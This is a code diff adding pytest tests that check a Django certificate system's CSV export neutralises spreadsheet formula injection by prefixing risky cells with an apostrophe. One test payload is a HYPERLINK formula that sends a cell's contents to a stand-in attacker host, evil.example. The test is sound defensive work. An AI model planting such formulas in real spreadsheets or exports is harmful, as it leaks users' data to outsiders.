@@ -215,3 +215,52 @@ def test_it_exports_in_a_constant_number_of_queries(url, cast, certificate, logi
     with CaptureQueriesContext(connection) as many:
         assert client.get(url).status_code == 200
     assert len(many.captured_queries) == len(few.captured_queries)
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_it_writes_no_cell_a_spreadsheet_would_run_as_a_formula(start, cast, certificate, login):
+    # What a client or staff typed reaches the CSV: scope, entity name and address, and each site's.
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Certificate.objects.filter(pk=certificate.pk).update(
+        scope=formula, entity_name=formula, entity_address=formula
+    )
+    certificate.sites.update(name=formula, address=formula, city=formula, scope=formula)
+
+    rows = _rows(login(cast.staff).get(CSV_URL))
+
+    columns = [
+        "Certification Scope",
+        "Certified Entity Name",
+        "Certified Entity Registered Address",
+        "Certification Site Name",
+        "Certification Site Address",
+        "Certification Site City",
+        "Certification Site Scope",
+    ]
+    cells = [row[column] for row in rows for column in columns]
+    assert len(cells) == 3 * len(columns)
+    # Shown as the text that was typed, after an apostrophe that keeps it from running.
+    assert set(cells) == {"'" + formula}
+
+
+def test_it_leaves_ordinary_cells_as_they_are(cast, certificate, login):
+    Certificate.objects.filter(pk=certificate.pk).update(scope="Inbound calls - and e-mail = 100 %")
+    row = _rows(login(cast.staff).get(CSV_URL))[0]
+    assert row["Certification Scope"] == "Inbound calls - and e-mail = 100 %"
+
+
+def test_every_csv_is_written_through_the_spreadsheet_writer():
+    # One home for the rule: an export that writes CSV with the csv module itself would skip it.
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent
+    writers = [
+        str(path.relative_to(root))
+        for app in ("accounts", "clients", "audits", "findings", "config")
+        for path in (root / app).rglob("*.py")
+        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
+    ]
+    assert writers == ["config/spreadsheets.py"]
